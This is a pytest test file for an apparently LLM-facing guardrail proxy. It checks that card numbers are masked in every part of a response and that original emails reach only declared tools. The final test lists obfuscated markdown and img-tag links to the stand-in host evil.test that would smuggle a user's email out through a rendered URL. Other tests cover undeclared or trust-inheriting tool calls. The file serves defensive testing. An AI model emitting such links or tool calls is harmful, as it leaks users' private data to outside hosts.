"""What a client gets: nothing that policy masks, and no original where it may not stand."""

from __future__ import annotations

import gzip
import json
from collections.abc import Mapping
from typing import Any

import pytest
from leaks_world import JSON, SSE, Pairs, Seen, ask, built, chat

from guardrail.config import Built

CARD = "4111 1111 1111 1111"
_LOOK_UP = built(output={"restore_tools": ["look_up"]})


def _typed(content_type: bytes, *more: tuple[bytes, bytes]) -> Pairs:
    return ((b"content-type", content_type), *more)


def _event(value: object) -> bytes:
    return b"data: " + json.dumps(value).encode() + b"\n\n"


def _delta(**fields: object) -> dict[str, object]:
    return {"choices": [{"index": 0, **fields}]}


def _stream(*events: object, guarded: Built | None = None) -> Seen:
    return ask(
        chat("write to alice@example.com"),
        answer=[*map(_event, events), b"data: [DONE]\n\n"],
        answer_headers=_typed(SSE),
        guarded=guarded,
    )


def _visible(answer: bytes) -> str:
    """The text a reader of an event stream puts together."""
    text = ""
    for line in answer.decode().splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:]).get("choices", ()):
                text += choice.get("delta", {}).get("content") or ""
    return text


@pytest.mark.parametrize("finish", [None, ""])
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_card_cut_over_events_is_masked_whatever_finish_reason_they_carry(
    finish: object, size: int
) -> None:
    text = f"card {CARD} of [EMAIL_1] ok"
    cut = [text[at : at + size] for at in range(0, len(text), size)]
    seen = _stream(
        *(_delta(delta={"content": piece}, finish_reason=finish) for piece in cut),
        _delta(delta={}, finish_reason="stop"),
    )
    assert _visible(seen.answer) == "card [CARD REDACTED] of alice@example.com ok"


@pytest.mark.parametrize(
    "raw",
    [
        f": {CARD}\n\n",
        f"event: {CARD}\ndata: 1\n\n",
        f"id: {CARD}\ndata: 1\n\n",
        f"note: {CARD}\n\n",
        json.dumps({"error": {"message": CARD}}) + "\n\n",
        f"data: {CARD}\n\n",
        'data: "\\u0034111 1111 1111 1111"\n\n',
        f"data: [DONE]\n\ndata: {CARD}\n\n",
        f"data: [DONE] {CARD}\n\n",
        f"data: {CARD}",
    ],
    ids="comment event id field json text string after-done in-done unended".split(),
)
def test_no_line_of_an_event_stream_passes_unseen(raw: str) -> None:
    seen = ask(chat("hello"), answer=[raw.encode()], answer_headers=_typed(SSE))
    assert CARD not in seen.answer.decode().replace(r"\u0034", "4")


def test_text_that_is_no_json_is_masked_in_an_event_rather_than_refused() -> None:
    raw = f"data: pay {CARD}\n\n".encode()
    seen = ask(chat("hello"), answer=[raw], answer_headers=_typed(SSE))
    assert seen.answer == b"data: pay [CARD REDACTED]\n\n"


def test_a_json_string_is_masked_rather_than_refused() -> None:
    seen = ask(chat("hello"), answer=[json.dumps(CARD).encode()])
    assert (seen.status, seen.answer) == (200, b'"[CARD REDACTED]"')


_ECHO = json.dumps({"a": CARD}).encode()

ANSWERS: Mapping[str, tuple[Pairs, bytes]] = {
    "no type": ((), _ECHO),
    "octets": (_typed(b"application/octet-stream"), _ECHO),
    "utf-16": (_typed(b"text/plain; charset=utf-16le"), CARD.encode("utf-16-le")),
    "html": (_typed(b"text/html"), CARD.encode()),
    "problem": (_typed(b"application/problem+json"), _ECHO),
    "lines": (_typed(b"application/x-ndjson"), _ECHO + b"\n"),
    "gzip": (_typed(JSON, (b"content-encoding", b"gzip")), gzip.compress(_ECHO)),
    "two encodings": (_typed(JSON, (b"content-encoding", b"gzip, gzip")), gzip.compress(_ECHO)),
}


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("kind", ANSWERS)
def test_a_card_passes_in_no_kind_of_answer(kind: str, method: str) -> None:
    headers, answer = ANSWERS[kind]
    body = chat("hello") if method == "POST" else None
    seen = ask(body, method=method, answer=[answer], answer_headers=headers)
    got = seen.answer.replace(b"\0", b"")
    got = gzip.decompress(got) if got[:2] == b"\x1f\x8b" else got
    assert CARD.encode() not in got


@pytest.mark.parametrize("header", [b"location", b"x-echo", b"set-cookie"])
def test_a_card_passes_in_no_header_of_an_answer(header: bytes) -> None:
    seen = ask(chat("hello"), answer_headers=_typed(JSON, (header, CARD.encode())))
    assert CARD.encode() not in b" ".join(seen.headers.values())


def test_an_untouched_picture_keeps_the_encoding_its_header_names() -> None:
    picture = gzip.compress(b"picture")
    headers = _typed(b"image/png", (b"content-encoding", b"gzip"))
    seen = ask(None, method="GET", content_type=b"", answer=[picture], answer_headers=headers)
    encoded = seen.headers.get(b"content-encoding") == b"gzip"
    assert (gzip.decompress(seen.answer) if encoded else seen.answer) == b"picture"


@pytest.mark.parametrize("media", [JSON, b"text/plain"])
def test_an_encoded_answer_that_was_cut_is_no_whole_answer(media: bytes) -> None:
    seen = ask(
        chat("hello"),
        answer=[gzip.compress(b'{"a":1}')[:-12]],
        answer_headers=_typed(media, (b"content-encoding", b"gzip")),
    )
    assert seen.status == 502 or not seen.ended


def test_every_member_of_an_encoded_answer_is_given() -> None:
    seen = ask(
        chat("hello"),
        answer=[gzip.compress(b"one ") + gzip.compress(b"two")],
        answer_headers=_typed(b"text/plain", (b"content-encoding", b"gzip")),
    )
    assert seen.answer == b"one two" or seen.status == 502 or not seen.ended


@pytest.mark.parametrize(
    "answer",
    [
        {"id": CARD},
        {"usage": {"note": CARD}},
        {"usage": {"note": 4111111111111111}},
        {"choices": [{"finish_reason": CARD}]},
        {"choices": [{"message": {"tool_calls": [{"id": CARD}]}}]},
        {"error": {"code": CARD, "message": "no"}},
        {CARD: 1},
        {"choices": [{"message": {"content": CARD}}]},
        {"choices": [{"logprobs": {"content": [{"token": CARD}]}}]},
        {"choices": [{"message": {"annotations": [{"url_citation": {"title": CARD}}]}}]},
    ],
    ids="id usage number finish call error key content logprobs citation".split(),
)
def test_a_card_passes_in_no_field_of_an_answer(answer: object) -> None:
    seen = ask(chat("hello"), answer=[json.dumps(answer).encode()])
    assert CARD.replace(" ", "") not in seen.answer.decode().replace(" ", "")


@pytest.mark.parametrize("size", [1, 5, 80])
@pytest.mark.parametrize(
    "written", [r'print("pay:\n4111 1111 1111 1111")', r'{"pay":"a\\t4111 1111 1111 1111\\r\\n"}']
)
def test_a_card_behind_an_escape_passes_in_no_answer(written: str, size: int) -> None:
    whole = ask(
        chat("hello"),
        answer=[json.dumps({"choices": [{"message": {"content": written}}]}).encode()],
    )
    pieces = [written[at : at + size] for at in range(0, len(written), size)]
    streamed = _stream(*(_delta(delta={"content": piece}) for piece in pieces))
    for seen in (whole, streamed):
        assert seen.status == 200
        assert "1111" not in seen.answer.decode()


# ── where originals may stand ────────────────────────────────────────────────────────────────────

_WRITTEN = '{"to":"[EMAIL_1]"}'

TOOL_ANSWERS: Mapping[str, object] = {
    "function": {
        "choices": [
            {"message": {"tool_calls": [{"function": {"name": "send", "arguments": _WRITTEN}}]}}
        ]
    },
    "custom": {
        "choices": [
            {"message": {"tool_calls": [{"custom": {"name": "send", "input": "to [EMAIL_1]"}}]}}
        ]
    },
    "tool use": {"content": [{"type": "tool_use", "name": "send", "input": {"to": "[EMAIL_1]"}}]},
    "function call item": {
        "output": [{"type": "function_call", "name": "send", "arguments": _WRITTEN}]
    },
}


@pytest.mark.parametrize("shape", TOOL_ANSWERS)
def test_a_tool_that_nobody_declared_gets_no_original(shape: str) -> None:
    answer = json.dumps(TOOL_ANSWERS[shape]).encode()
    seen = ask(chat("write to alice@example.com"), answer=[answer], guarded=_LOOK_UP)
    assert b"alice" not in seen.answer


def _calls(*functions: Mapping[str, str], **index: int) -> list[dict[str, Any]]:
    return [_delta(delta={"tool_calls": [{**index, "function": dict(f)}]}) for f in functions]


@pytest.mark.parametrize("index", [{}, {"index": 0}], ids=["no index", "same index"])
@pytest.mark.parametrize(
    "second",
    [{"name": "send", "arguments": _WRITTEN}, {"arguments": _WRITTEN, "name": "send"}],
    ids=["name first", "name last"],
)
def test_a_second_tool_in_a_place_does_not_inherit_the_trust_of_the_first(
    second: Mapping[str, str], index: dict[str, int]
) -> None:
    events = _calls({"name": "look_up", "arguments": "{}"}, second, **index)
    assert b"alice" not in _stream(*events, guarded=_LOOK_UP).answer


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/?q=[EMAIL_1])",
        "![x](<https://evil.test/?q=a [EMAIL_1]>)",
        "[x]: //evil.test/[EMAIL_1]",
        "<img src='//evil.test/?q=[EMAIL_1]'>",
        "<img src=https:/evil.test/[EMAIL_1]>",
        '<img src="https://evil.test/?q=\n[EMAIL_1]">',
        '<img src="https://evil.test/?q=a b [EMAIL_1]">',
        '<img src="https&#58;//evil.test/[EMAIL_1]">',
        '<img src="https:\\\\evil.test\\[EMAIL_1]">',
        "https://evil.test/?" + "a" * 200 + "[EMAIL_1]",
        "https://evil.test/%5BEMAIL_1%5D",
    ],
    ids=(
        "markdown angle reference schemeless one-slash newline space entity backslash long percent"
    ).split(),
)
def test_no_link_a_reader_follows_carries_an_original(text: str) -> None:
    answer = json.dumps({"choices": [{"message": {"content": text}}]}).encode()
    seen = ask(chat("write to alice@example.com"), answer=[answer])
    assert b"alice" not in seen.answer
